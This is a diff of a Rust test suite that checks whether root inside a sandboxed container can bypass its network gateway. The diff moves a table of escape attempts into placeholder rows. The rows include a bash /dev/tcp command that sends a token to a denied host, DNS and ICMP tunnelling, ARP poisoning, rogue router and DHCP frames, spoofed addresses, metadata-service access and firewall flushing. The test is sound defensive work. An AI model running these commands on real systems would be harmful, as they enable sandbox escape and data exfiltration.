@@ -5,6 +5,7 @@
 //! an attempt that cannot succeed does not count as a wall.
 
 use std::collections::BTreeSet;
+use std::fmt::Display;
 use std::io::{BufRead, BufReader, Read, Write};
 use std::net::TcpListener;
 use std::process::Child;
@@ -14,10 +15,9 @@ use crate::support::env::TestEnv;
 use crate::support::lab;
 use crate::support::wait::eventually;
 use crate::support::walls::{BRIDGE, GATEWAY, Place, Walls};
-use crate::support::wan::{self, METADATA};
+use crate::support::wan;
 
 const PROBE: &str = include_str!("support/probe.pl");
-const BROADCAST: &str = "ff:ff:ff:ff:ff:ff";
 
 /// Everything an attempt may be aimed at.
 struct Targets {
@@ -36,12 +36,53 @@ struct Targets {
     former: String,
 }
 
+impl Targets {
+    /// Replaces the words of a row. A word comes before those that it contains.
+    fn fill(&self, row: &str) -> String {
+        let connect = "timeout 2 bash -c \
+                       'exec 3<>/dev/tcp/DENIED/443 && echo $TOKEN >&3 && head -n 1 <&3'";
+        let words: [(&str, &dyn Display); 16] = [
+            ("CONNECT", &connect),
+            ("DENIED", &wan::address(20)),
+            ("ALLOWED", &wan::address(10)),
+            ("OTHER", &wan::address(66)),
+            ("OWN_MAC", &self.own.mac),
+            ("OWN", &self.own.address),
+            ("NEIGHBOUR_MAC", &self.neighbour.mac),
+            ("NEIGHBOUR", &self.neighbour.address),
+            ("GATEWAY_MAC", &self.gateway.mac),
+            ("GATEWAY", &self.gateway.address),
+            ("UPLINK", &self.uplink),
+            ("BRIDGE_MAC", &self.bridge_mac),
+            ("HOST_PORT", &self.host_port),
+            ("HOST", &self.host),
+            ("RESOLVER_PORT", &self.resolver),
+            ("FORMER", &self.former),
+        ];
+        let filled = words.iter().fold(row.to_owned(), |row, (word, value)| {
+            row.replace(word, &value.to_string())
+        });
+        filled.replace("BROADCAST", "ff:ff:ff:ff:ff:ff")
+    }
+}
+
 struct Attempt {
     name: &'static str,
     /// Verb and arguments of the probe.
-    line: String,
+    line: &'static str,
     /// A pixel on the open network succeeds with it.
     open: bool,
+}
+
+fn attempts() -> Vec<Attempt> {
+    let parse = |row: &'static str| {
+        let (kind, rest) = row.split_once(" | ").unwrap();
+        let (name, line) = rest.split_once(" | ").unwrap();
+        assert!(["open", "walled"].contains(&kind), "{row}");
+        let open = kind == "open";
+        Attempt { name, line, open }
+    };
+    ATTEMPTS.iter().map(|row| parse(row)).collect()
 }
 
 /// Sees what arrives at an interface, from inside a pixel.
@@ -111,461 +152,136 @@ impl Host {
     }
 }
 
-fn attempts(to: &Targets) -> Vec<Attempt> {
-    let mut all = Vec::new();
-    let mut add = |name, line: String, open| all.push(Attempt { name, line, open });
-    let (own, neighbour, gateway) = (&to.own, &to.neighbour, &to.gateway);
-    let denied = wan::address(20);
-    let (allowed, other) = (wan::address(10), wan::address(66));
-
+/// Each row: whether a pixel on the open network succeeds with it, its name, and
+/// the verb and arguments of the probe with the words of [`Targets::fill`].
+const ATTEMPTS: &[&str] = &[
     // Straight out.
-    add("a raw address", format!("tcp {denied} 443"), true);
-    add("a raw address, UDP", format!("udp {denied} 4433"), true);
-    add(
-        "a raw address, QUIC's port",
-        format!("udp {denied} 443"),
-        true,
-    );
-    add(
-        "an address a neighbour has learned",
-        format!("tcp {denied} 80"),
-        true,
-    );
-    add("the clock", format!("udp {denied} 123"), true);
-    add("source port 22", format!("tcp {denied} 443 22"), true);
-    add("source port 53", format!("udp {denied} 4433 53"), true);
-    add("source port 67", format!("udp {denied} 68 67"), true);
-    add("source port 68", format!("udp {denied} 4433 68"), true);
-    add("in fragments", format!("udp {denied} 4433 0 5000"), true);
-    add("an ICMP tunnel", format!("icmp {denied}"), true);
-    add("another type of ICMP", format!("icmp {allowed} 13"), true);
-    for (name, number) in [
-        ("GRE", 47),
-        ("ESP", 50),
-        ("IP in IP", 4),
-        ("SCTP", 132),
-        ("a protocol without a name", 253),
-    ] {
-        add(name, format!("proto {number} {denied}"), true);
-    }
-    add(
-        "a port of an allowed host that is not",
-        "tcp 198.51.100.21 80".into(),
-        true,
-    );
-
+    "open | a raw address | tcp DENIED 443",
+    "open | a raw address, UDP | udp DENIED 4433",
+    "open | a raw address, QUIC's port | udp DENIED 443",
+    "open | an address a neighbour has learned | tcp DENIED 80",
+    "open | the clock | udp DENIED 123",
+    "open | source port 22 | tcp DENIED 443 22",
+    "open | source port 53 | udp DENIED 4433 53",
+    "open | source port 67 | udp DENIED 68 67",
+    "open | source port 68 | udp DENIED 4433 68",
+    "open | in fragments | udp DENIED 4433 0 5000",
+    "open | an ICMP tunnel | icmp DENIED",
+    "open | another type of ICMP | icmp ALLOWED 13",
+    "open | GRE | proto 47 DENIED",
+    "open | ESP | proto 50 DENIED",
+    "open | IP in IP | proto 4 DENIED",
+    "open | SCTP | proto 132 DENIED",
+    "open | a protocol without a name | proto 253 DENIED",
+    "open | a port of an allowed host that is not | tcp 198.51.100.21 80",
     // Names.
-    let dns = |name, line: String, open| Attempt { name, line, open };
-    all.extend([
-        dns(
-            "another resolver",
-            format!("dns {other} TOKEN.other.test"),
-            true,
-        ),
-        dns(
-            "another resolver, TCP",
-            format!("dns {other} TOKEN.other.test A tcp"),
-            true,
-        ),
-        dns(
-            "a denied name",
-            format!("dns {} other.test", gateway.address),
-            false,
-        ),
-        dns(
-            "a denied name of another type",
-            format!("dns {} TOKEN.test HTTPS", gateway.address),
-            false,
-        ),
-        dns(
-            "a denied name, any type",
-            format!("dns {} TOKEN.test ANY", gateway.address),
-            false,
-        ),
-        dns(
-            "a label under an allowed name",
-            format!("dns {} TOKEN.allowed.test", gateway.address),
-            false,
-        ),
-        dns(
-            "the same, TXT",
-            format!("dns {} TOKEN.allowed.test TXT", gateway.address),
-            false,
-        ),
-        dns(
-            "the same, NULL",
-            format!("dns {} TOKEN.allowed.test NULL", gateway.address),
-            false,
-        ),
-        dns(
-            "the same, TCP",
-            format!("dns {} TOKEN.allowed.test A tcp", gateway.address),
-            false,
-        ),
-        dns(
-            "labels of an allowed name",
-            format!("dns {} allowed.test.TOKEN.test", gateway.address),
-            false,
-        ),
-        dns(
-            "the name server of the internet",
-            format!("dns {} TOKEN.test", wan::RESOLVER),
-            true,
-        ),
-        dns(
-            "the host's resolver",
-            format!("dns {} other.test", to.host),
-            false,
-        ),
-        dns(
-            "the gateway's upstream side",
-            format!("dns {} other.test", to.uplink),
-            false,
-        ),
-        dns(
-            "the neighbour's resolver",
-            format!("dns {} other.test A udp {}", gateway.address, to.resolver),
-            false,
-        ),
-        dns(
-            "the same, TCP",
-            format!("dns {} other.test A tcp {}", gateway.address, to.resolver),
-            false,
-        ),
-        dns("DNS over TLS", format!("tcp {other} 853"), true),
-        dns("DNS over HTTPS", format!("tcp {other} 443"), true),
-        dns("DNS on another port", format!("udp {other} 65000"), true),
-    ]);
-    let mut add = |name, line: String, open| all.push(Attempt { name, line, open });
-
+    "open | another resolver | dns OTHER TOKEN.other.test",
+    "open | another resolver, TCP | dns OTHER TOKEN.other.test A tcp",
+    "walled | a denied name | dns GATEWAY other.test",
+    "walled | a denied name of another type | dns GATEWAY TOKEN.test HTTPS",
+    "walled | a denied name, any type | dns GATEWAY TOKEN.test ANY",
+    "walled | a label under an allowed name | dns GATEWAY TOKEN.allowed.test",
+    "walled | a label under an allowed name, TXT | dns GATEWAY TOKEN.allowed.test TXT",
+    "walled | a label under an allowed name, NULL | dns GATEWAY TOKEN.allowed.test NULL",
+    "walled | a label under an allowed name, TCP | dns GATEWAY TOKEN.allowed.test A tcp",
+    "walled | labels of an allowed name | dns GATEWAY allowed.test.TOKEN.test",
+    "open | the name server of the internet | dns 198.51.100.53 TOKEN.test",
+    "walled | the host's resolver | dns HOST other.test",
+    "walled | the gateway's upstream side | dns UPLINK other.test",
+    "walled | the neighbour's resolver | dns GATEWAY other.test A udp RESOLVER_PORT",
+    "walled | the neighbour's resolver, TCP | dns GATEWAY other.test A tcp RESOLVER_PORT",
+    "open | DNS over TLS | tcp OTHER 853",
+    "open | DNS over HTTPS | tcp OTHER 443",
+    "open | DNS on another port | udp OTHER 65000",
     // The host and what is near it.
-    add(
-        "the host",
-        format!("tcp {} {}", to.host, to.host_port),
-        true,
-    );
-    add(
-        "the host's other address",
-        format!("tcp {} 80", wan::HOST),
-        false,
-    );
-    add("ping of the host", format!("icmp {}", to.host), true);
-    add("the metadata service", format!("tcp {METADATA} 80"), true);
-    add(
-        "the gateway's address outside",
-        format!("tcp {} 22", to.uplink),
-        false,
-    );
-    add(
-        "ping of the gateway outside",
-        format!("icmp {}", to.uplink),
-        false,
-    );
-    add(
-        "SSH to the gateway",
-        format!("tcp {} 22", gateway.address),
-        false,
-    );
-    add(
-        "ping of the gateway",
-        format!("icmp {}", gateway.address),
-        false,
-    );
-    for port in [67, 80, 443, 5355, 8443] {
-        add(
-            "a port of the gateway",
-            format!("tcp {} {port}", gateway.address),
-            false,
-        );
-    }
-    let from = |next: &str, mac: &str, source: &str, target: &str| {
-        format!("spoof {next} {mac} {source} {target} 4433")
-    };
-    add(
-        "a route by the host's bridge",
-        from(&to.bridge_mac, &own.mac, &own.address, &denied.to_string()),
-        true,
-    );
-    add(
-        "the same in the host's VLAN",
-        format!(
-            "tagged {} {} {} {denied} 1",
-            to.bridge_mac, own.mac, own.address
-        ),
-        false,
-    );
-    add(
-        "the host's resolver, by its bridge",
-        format!(
-            "spoof {} {} {} {} 53",
-            to.bridge_mac, own.mac, own.address, to.host
-        ),
-        false,
-    );
-    add(
-        "the host, by its bridge",
-        from(
-            &to.bridge_mac,
-            &own.mac,
-            &own.address,
-            &wan::HOST.to_string(),
-        ),
-        false,
-    );
-    add(
-        "everything to all hosts, by broadcast",
-        from(BROADCAST, &own.mac, &own.address, &denied.to_string()),
-        false,
-    );
-    add(
-        "the broadcast address",
-        "udp 255.255.255.255 4433".into(),
-        true,
-    );
-    add(
-        "a broadcast outside",
-        "udp 198.51.100.255 4433".into(),
-        false,
-    );
-    add("multicast", "udp 239.1.1.1 4433".into(), true);
-    add("multicast DNS", "udp 224.0.0.251 5353".into(), true);
-
-    // With another sender's address. The neighbor may reach `denied`.
-    let next = &gateway.mac;
-    let target = denied.to_string();
-    add(
-        "the neighbour's address",
-        from(next, &own.mac, &neighbour.address, &target),
-        false,
-    );
-    add(
-        "the neighbour's hardware address too",
-        from(next, &neighbour.mac, &neighbour.address, &target),
-        false,
-    );
-    add(
-        "the gateway's address",
-        from(next, &own.mac, &gateway.address, &target),
-        false,
-    );
-    add(
-        "the gateway's own hardware address",
-        from(next, next, &gateway.address, &target),
-        false,
-    );
-    add(
-        "an address without a host",
-        from(next, &own.mac, "10.0.0.7", &target),
-        false,
-    );
-    add(
-        "an address outside",
-        from(next, &own.mac, "198.51.100.77", &target),
-        false,
-    );
-    add(
-        "the host's address",
-        from(next, &own.mac, &to.host, &target),
-        false,
-    );
-    add(
-        "the address of a destroyed pixel",
-        from(next, &own.mac, &to.former, &target),
-        false,
-    );
-    add(
-        "loopback",
-        from(next, &own.mac, "127.0.0.1", &target),
-        false,
-    );
-    let loose = "8307".to_owned() + &hex(&denied.octets()) + "00";
-    add(
-        "a source route over an allowed host",
-        format!(
-            "spoof {next} {} {} {allowed} 4433 {loose}",
-            own.mac, own.address
-        ),
-        false,
-    );
-
+    "open | the host | tcp HOST HOST_PORT",
+    "walled | the host's other address | tcp 198.51.100.254 80",
+    "open | ping of the host | icmp HOST",
+    "open | the metadata service | tcp 169.254.169.254 80",
+    "walled | the gateway's address outside | tcp UPLINK 22",
+    "walled | ping of the gateway outside | icmp UPLINK",
+    "walled | SSH to the gateway | tcp GATEWAY 22",
+    "walled | ping of the gateway | icmp GATEWAY",
+    "walled | port 67 of the gateway | tcp GATEWAY 67",
+    "walled | port 80 of the gateway | tcp GATEWAY 80",
+    "walled | port 443 of the gateway | tcp GATEWAY 443",
+    "walled | port 5355 of the gateway | tcp GATEWAY 5355",
+    "walled | port 8443 of the gateway | tcp GATEWAY 8443",
+    "open | a route by the host's bridge | spoof BRIDGE_MAC OWN_MAC OWN DENIED 4433",
+    "walled | a route by the host's VLAN | tagged BRIDGE_MAC OWN_MAC OWN DENIED 1",
+    "walled | the host's resolver, by its bridge | spoof BRIDGE_MAC OWN_MAC OWN HOST 53",
+    "walled | the host, by its bridge | spoof BRIDGE_MAC OWN_MAC OWN 198.51.100.254 4433",
+    "walled | everything to all hosts, by broadcast | spoof BROADCAST OWN_MAC OWN DENIED 4433",
+    "open | the broadcast address | udp 255.255.255.255 4433",
+    "walled | a broadcast outside | udp 198.51.100.255 4433",
+    "open | multicast | udp 239.1.1.1 4433",
+    "open | multicast DNS | udp 224.0.0.251 5353",
+    // With another sender's address. The neighbor may reach DENIED.
+    "walled | the neighbour's address | spoof GATEWAY_MAC OWN_MAC NEIGHBOUR DENIED 4433",
+    "walled | the neighbour's hardware address too \
+     | spoof GATEWAY_MAC NEIGHBOUR_MAC NEIGHBOUR DENIED 4433",
+    "walled | the gateway's address | spoof GATEWAY_MAC OWN_MAC GATEWAY DENIED 4433",
+    "walled | the gateway's own hardware address \
+     | spoof GATEWAY_MAC GATEWAY_MAC GATEWAY DENIED 4433",
+    "walled | an address without a host | spoof GATEWAY_MAC OWN_MAC 10.0.0.7 DENIED 4433",
+    "walled | an address outside | spoof GATEWAY_MAC OWN_MAC 198.51.100.77 DENIED 4433",
+    "walled | the host's address | spoof GATEWAY_MAC OWN_MAC HOST DENIED 4433",
+    "walled | the address of a destroyed pixel | spoof GATEWAY_MAC OWN_MAC FORMER DENIED 4433",
+    "walled | loopback | spoof GATEWAY_MAC OWN_MAC 127.0.0.1 DENIED 4433",
+    "walled | a source route over an allowed host \
+     | spoof GATEWAY_MAC OWN_MAC OWN ALLOWED 4433 8307c633641400",
     // To the neighbour.
-    add(
-        "the neighbour",
-        format!("udp {} 4433", neighbour.address),
-        true,
-    );
-    add(
-        "the neighbour by the gateway",
-        from(next, &own.mac, &own.address, &neighbour.address),
-        false,
-    );
-    add(
-        "the neighbour's own hardware address",
-        from(&neighbour.mac, &own.mac, &own.address, &neighbour.address),
-        true,
-    );
-    add(
-        "a frame of no protocol",
-        format!("frame {} {} 88b5", neighbour.mac, own.mac),
-        true,
-    );
-    add(
-        "the same by broadcast",
-        format!("frame {BROADCAST} {} 88b5", own.mac),
-        true,
-    );
-    add(
-        "a tagged frame",
-        format!("frame {} {} 8100 000188b5", neighbour.mac, own.mac),
-        true,
-    );
-    add(
-        "ARP poisoning of the neighbour",
-        format!(
-            "arp {} {} 2 {} {} {} {}",
-            neighbour.mac, own.mac, own.mac, gateway.address, neighbour.mac, neighbour.address
-        ),
-        true,
-    );
-    add(
-        "an ARP request for the neighbour",
-        format!(
-            "arp {BROADCAST} {} 1 {} {} 00:00:00:00:00:00 {}",
-            own.mac, own.mac, own.address, neighbour.address
-        ),
-        true,
-    );
-    add(
-        "ARP as the gateway",
-        format!(
-            "arp {BROADCAST} {next} 2 {next} {} {BROADCAST} {}",
-            gateway.address, neighbour.address
-        ),
-        false,
-    );
-    add(
-        "a rogue router",
-        format!(
-            "frame 33:33:00:00:00:01 {} 86dd 6000000000143aff{}{}8600000040000708",
-            own.mac,
-            link_local(1),
-            "ff020000000000000000000000000001"
-        ),
-        true,
-    );
-    add(
-        "IPv6 to the neighbour",
-        "sh ping -6 -c 1 -W 1 -p $(echo $TOKEN | od -An -tx1 | tr -d ' \\n' | head -c 32) ff02::1%eth0 | grep -v $(cat /sys/class/net/eth0/address | cut -d: -f6) | grep 'bytes from' | grep -v $(ip -6 -o addr show dev eth0 | sed 's/.*inet6 \\([^/]*\\).*/\\1/')"
-            .into(),
-        false,
-    );
-    add("an IPv6 address of one's own", "sh ip -6 addr add 2001:db8::5/64 dev eth0 nodad; ip -6 route add default via fe80::1 dev eth0; ping -6 -c 1 -W 1 2001:db8::1".into(), false);
-
+    "open | the neighbour | udp NEIGHBOUR 4433",
+    "walled | the neighbour by the gateway | spoof GATEWAY_MAC OWN_MAC OWN NEIGHBOUR 4433",
+    "open | the neighbour's own hardware address | spoof NEIGHBOUR_MAC OWN_MAC OWN NEIGHBOUR 4433",
+    "open | a frame of no protocol | frame NEIGHBOUR_MAC OWN_MAC 88b5",
+    "open | a frame of no protocol by broadcast | frame BROADCAST OWN_MAC 88b5",
+    "open | a tagged frame | frame NEIGHBOUR_MAC OWN_MAC 8100 000188b5",
+    "open | ARP poisoning of the neighbour \
+     | arp NEIGHBOUR_MAC OWN_MAC 2 OWN_MAC GATEWAY NEIGHBOUR_MAC NEIGHBOUR",
+    "open | an ARP request for the neighbour \
+     | arp BROADCAST OWN_MAC 1 OWN_MAC OWN 00:00:00:00:00:00 NEIGHBOUR",
+    "walled | ARP as the gateway \
+     | arp BROADCAST GATEWAY_MAC 2 GATEWAY_MAC GATEWAY BROADCAST NEIGHBOUR",
+    "open | a rogue router | frame 33:33:00:00:00:01 OWN_MAC 86dd 6000000000143aff\
+     fe800000000000000000000000000001ff0200000000000000000000000000018600000040000708",
+    "walled | IPv6 to the neighbour \
+     | sh ping -6 -c 1 -W 1 -p $(echo $TOKEN | od -An -tx1 | tr -d ' \\n' | head -c 32) \
+     ff02::1%eth0 | grep -v $(cat /sys/class/net/eth0/address | cut -d: -f6) | grep 'bytes from' \
+     | grep -v $(ip -6 -o addr show dev eth0 | sed 's/.*inet6 \\([^/]*\\).*/\\1/')",
+    "walled | an IPv6 address of one's own | sh ip -6 addr add 2001:db8::5/64 dev eth0 nodad; \
+     ip -6 route add default via fe80::1 dev eth0; ping -6 -c 1 -W 1 2001:db8::1",
     // DHCP.
-    let spare = "02:00:00:00:00:77";
-    let dhcp =
-        |kind: u8, chaddr: &str, rest: &str| format!("dhcp {} {kind} {chaddr} {rest}", own.mac);
-    add("a second lease", dhcp(1, spare, ""), false);
-    add("the neighbour's lease", dhcp(1, &neighbour.mac, ""), false);
-    add(
-        "a lease by another's hardware address",
-        format!("dhcp {} 1 {}", neighbour.mac, neighbour.mac),
-        false,
-    );
-    add(
-        "declining the neighbour's address",
-        dhcp(
-            4,
-            &neighbour.mac,
-            &format!("0.0.0.0 0.0.0.0 0.0.0.0 {}", neighbour.address),
-        ),
-        false,
-    );
-    add(
-        "an answer sent to the neighbour",
-        dhcp(
-            8,
-            &own.mac,
-            &format!("{} {}", own.address, neighbour.address),
-        ),
-        false,
-    );
-    add(
-        "an answer sent by a relay",
-        dhcp(
-            1,
-            &own.mac,
-            &format!("0.0.0.0 0.0.0.0 {}", neighbour.address),
-        ),
-        false,
-    );
-    add(
-        "a rogue server",
-        from(BROADCAST, &own.mac, &own.address, "255.255.255.255").replace("4433", "68"),
-        true,
-    );
-
+    "walled | a second lease | dhcp OWN_MAC 1 02:00:00:00:00:77",
+    "walled | the neighbour's lease | dhcp OWN_MAC 1 NEIGHBOUR_MAC",
+    "walled | a lease by another's hardware address | dhcp NEIGHBOUR_MAC 1 NEIGHBOUR_MAC",
+    "walled | declining the neighbour's address \
+     | dhcp OWN_MAC 4 NEIGHBOUR_MAC 0.0.0.0 0.0.0.0 0.0.0.0 NEIGHBOUR",
+    "walled | an answer sent to the neighbour | dhcp OWN_MAC 8 OWN_MAC OWN NEIGHBOUR",
+    "walled | an answer sent by a relay | dhcp OWN_MAC 1 OWN_MAC 0.0.0.0 0.0.0.0 NEIGHBOUR",
+    "open | a rogue server | spoof BROADCAST OWN_MAC OWN 255.255.255.255 68",
     // With root's tools. Each puts things back.
-    let connect = format!(
-        "timeout 2 bash -c 'exec 3<>/dev/tcp/{denied}/443 && echo $TOKEN >&3 && head -n 1 <&3'"
-    );
-    add(
-        "a flushed ruleset",
-        format!("sh nft flush ruleset; iptables -F; {connect}"),
-        true,
-    );
-    add(
-        "a network of one's own",
-        format!(
-            "sh ip link add t-mv link eth0 type macvlan mode bridge; ip link set t-mv up; \
-             ip addr add {former}/16 dev t-mv; ip route add {denied}/32 via {gw} dev t-mv src {former}; \
-             {connect}; code=$?; ip link del t-mv; exit $code",
-            former = to.former,
-            gw = gateway.address,
-        ),
-        false,
-    );
-    add(
-        "a nested container",
-        format!(
-            "sh ip netns add t-ns; in='nsenter --net=/run/netns/t-ns'; \
-             ip link add t-in type veth peer name eth0 netns t-ns; \
-             ip addr add 192.168.77.1/24 dev t-in; ip link set t-in up; \
-             $in ip addr add 192.168.77.2/24 dev eth0; $in ip link set eth0 up; \
-             $in ip route add default via 192.168.77.1; echo 1 >/proc/sys/net/ipv4/ip_forward; \
-             nft 'add table ip t-nat; add chain ip t-nat p {{ type nat hook postrouting priority 100; }}; \
-             add rule ip t-nat p oifname eth0 masquerade'; \
-             $in {connect}; code=$?; nft delete table ip t-nat; \
-             ip link del t-in; ip netns del t-ns; exit $code"
-        ),
-        true,
-    );
-    add(
-        "a bridge over the interface",
-        format!(
-            "sh ip link add t-br type bridge; ip link set t-br up; ip addr add {}/16 dev t-br; \
-             ip link set eth0 master t-br; ip route replace {denied}/32 via {} dev t-br; {connect}; code=$?; \
-             ip link set eth0 nomaster; ip link del t-br; exit $code",
-            to.former, gateway.address
-        ),
-        false,
-    );
-    add("the guest API", "sh ls /dev/incus/sock".into(), false);
-    add(
-        "a device of the host",
-        "sh ls /dev/kmsg /dev/mem /dev/sda".into(),
-        false,
-    );
-    all
-}
-
-fn hex(bytes: &[u8]) -> String {
-    bytes.iter().map(|byte| format!("{byte:02x}")).collect()
-}
-
-fn link_local(last: u8) -> String {
-    format!("fe80000000000000000000000000{last:04x}")
-}
+    "open | a flushed ruleset | sh nft flush ruleset; iptables -F; CONNECT",
+    "walled | a network of one's own \
+     | sh ip link add t-mv link eth0 type macvlan mode bridge; ip link set t-mv up; \
+     ip addr add FORMER/16 dev t-mv; ip route add DENIED/32 via GATEWAY dev t-mv src FORMER; \
+     CONNECT; code=$?; ip link del t-mv; exit $code",
+    "open | a nested container | sh ip netns add t-ns; in='nsenter --net=/run/netns/t-ns'; \
+     ip link add t-in type veth peer name eth0 netns t-ns; \
+     ip addr add 192.168.77.1/24 dev t-in; ip link set t-in up; \
+     $in ip addr add 192.168.77.2/24 dev eth0; $in ip link set eth0 up; \
+     $in ip route add default via 192.168.77.1; echo 1 >/proc/sys/net/ipv4/ip_forward; \
+     nft 'add table ip t-nat; add chain ip t-nat p { type nat hook postrouting priority 100; }; \
+     add rule ip t-nat p oifname eth0 masquerade'; \
+     $in CONNECT; code=$?; nft delete table ip t-nat; \
+     ip link del t-in; ip netns del t-ns; exit $code",
+    "walled | a bridge over the interface \
+     | sh ip link add t-br type bridge; ip link set t-br up; ip addr add FORMER/16 dev t-br; \
+     ip link set eth0 master t-br; ip route replace DENIED/32 via GATEWAY dev t-br; CONNECT; \
+     code=$?; ip link set eth0 nomaster; ip link del t-br; exit $code",
+    "walled | the guest API | sh ls /dev/incus/sock",
+    "walled | a device of the host | sh ls /dev/kmsg /dev/mem /dev/sda",
+];
 
 /// Makes all of them and returns those that succeeded, each with how.
 fn succeeded(
@@ -581,7 +297,7 @@ fn succeeded(
     let token = |number: usize| format!("pxt{tag:04}x{number:03}q");
     let mut script = PROBE.to_owned();
     for (number, attempt) in attempts.iter().enumerate() {
-        script.push_str(&format!("{} {}\n", token(number), attempt.line));
+        script.push_str(&format!("{} {}\n", token(number), to.fill(attempt.line)));
     }
     let variable = format!("GATEWAY={}", to.gateway.address);
     let args = [
@@ -596,24 +312,24 @@ fn succeeded(
         let rest = line
             .strip_prefix(token.as_str())
             .unwrap_or_else(|| panic!("{line}"));
-        let mut ways = Vec::new();
-        if let Some(text) = rest.strip_prefix(" got ") {
-            ways.push(format!("got {text}"));
-        }
-        if walls.wan.saw(&token) {
-            ways.push("seen outside".into());
-        }
-        if at_neighbour.saw(&token) {
-            ways.push("seen by the neighbour".into());
-        }
-        if host.saw(&token) {
-            ways.push("seen by the host".into());
-        }
+        let ways = [
+            (rest.starts_with(" got "), rest.trim_start()),
+            (walls.wan.saw(&token), "seen outside"),
+            (at_neighbour.saw(&token), "seen by the neighbour"),
+            (host.saw(&token), "seen by the host"),
+        ];
+        let ways = ways.into_iter().filter(|(succeeded, _)| *succeeded);
+        let ways: Vec<&str> = ways.map(|(_, way)| way).collect();
         if !ways.is_empty() {
             found.push((attempt.name, ways.join(", ")));
         }
     }
     found
+}
+
+fn mac_of(interface: &str) -> String {
+    let path = format!("/sys/class/net/{interface}/address");
+    std::fs::read_to_string(path).unwrap().trim().to_owned()
 }
 
 fn host_address() -> String {
@@ -647,44 +363,24 @@ fn root_in_pixel_cannot_bypass_gateway() {
         .unwrap()
         .to_owned();
     let neighbour = walls.place(&b);
-    let ports = walls.server.run(
-        GATEWAY,
-        &[
-            "nft",
-            "get",
-            "element",
-            "inet",
-            "pixels",
-            "resolvers",
-            &format!("{{ {} }}", neighbour.address),
-        ],
-    );
-    let resolver = ports
-        .lines()
-        .find_map(|line| {
-            line.split_once(" : ")?
-                .1
-                .trim_end_matches([' ', '}'])
-                .trim()
-                .parse()
-                .ok()
-        })
-        .unwrap_or_else(|| panic!("no port in {ports}"));
+    let element = format!("inet pixels resolvers {{ {} }}", neighbour.address);
+    let get = ["nft", &format!("get element {element}")];
+    let ports = walls.server.run(GATEWAY, &get);
+    // The only word that is a number.
+    let port = ports.split_whitespace().find_map(|word| word.parse().ok());
+    let resolver = port.unwrap_or_else(|| panic!("no port in {ports}"));
     let to = Targets {
         own: walls.place(&a),
         neighbour,
         gateway: walls.gateway(),
         uplink,
-        bridge_mac: std::fs::read_to_string(format!("/sys/class/net/{BRIDGE}/address"))
-            .unwrap()
-            .trim()
-            .to_owned(),
+        bridge_mac: mac_of(BRIDGE),
         host: host_address(),
         host_port: host.port,
         resolver,
         former,
     };
-    let all = attempts(&to);
+    let all = attempts();
     assert!(all.len() >= 40);
     let witness = Witness::at(&walls.env, &b);
     let found = succeeded(&walls, &walls.env, &a, &to, &all, &witness, &host);
@@ -710,22 +406,16 @@ fn open_pixels_succeed(walls: &Walls, host: &Host) {
     let (a, b) = (env.name("a"), env.name("b"));
     env.pixels(["create", &a]).ok();
     env.pixels(["create", &b]).ok();
-    let address = |name: &str| {
-        let started = env.pixels(["start", name, "--json"]).ok().json();
-        started["ip"].as_str().unwrap().to_owned()
-    };
     let place = |name: &str| {
         let found = walls.server.get(&format!("/1.0/instances/px-{name}"));
+        let mac = &found["config"]["volatile.eth0.hwaddr"];
+        let started = env.pixels(["start", name, "--json"]).ok().json();
         Place {
-            mac: found["config"]["volatile.eth0.hwaddr"]
-                .as_str()
-                .unwrap()
-                .to_owned(),
-            address: address(name),
+            mac: mac.as_str().unwrap().to_owned(),
+            address: started["ip"].as_str().unwrap().to_owned(),
         }
     };
-    let bridge_mac = std::fs::read_to_string("/sys/class/net/incusbr0/address").unwrap();
-    let bridge_mac = bridge_mac.trim().to_owned();
+    let bridge_mac = mac_of("incusbr0");
     let to = Targets {
         own: place(&a),
         neighbour: place(&b),
@@ -740,7 +430,7 @@ fn open_pixels_succeed(walls: &Walls, host: &Host) {
         resolver: 53,
         former: "10.99.99.99".into(),
     };
-    let mut all = attempts(&to);
+    let mut all = attempts();
     all.retain(|attempt| attempt.open);
     let witness = Witness::at(&env, &b);
     let found = succeeded(walls, &env, &a, &to, &all, &witness, host);
